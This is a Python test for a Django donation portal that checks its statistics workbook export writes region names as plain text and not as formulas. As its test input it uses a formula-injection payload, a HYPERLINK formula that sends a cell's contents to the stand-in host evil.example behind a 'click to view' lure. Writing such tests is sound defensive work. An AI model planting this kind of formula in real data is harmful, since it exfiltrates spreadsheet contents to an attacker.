"""The donation statistics workbook writes region names as text, never as formulas."""

from io import BytesIO

from django.urls import reverse
from openpyxl import load_workbook

from portal.models import Region
from tests.donations.conftest import make_pledge, pay


def test_a_region_name_typed_as_a_formula_stays_text(dw, client_for):
    hostile = '=HYPERLINK("http://evil.example/?"&D3,"点击查看")'
    pledge = make_pledge(dw, amount="100.00")
    pay(dw, pledge, "100.00")
    Region.objects.update(name=hostile)
    response = client_for(dw.reporter).get(reverse("donations:statistics-export"))
    book = load_workbook(BytesIO(response.content))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    named = [c for c in cells if c.value == hostile]
    assert named
    assert all(c.data_type == "s" for c in named)
    assert not any(c.data_type == "f" for c in cells)
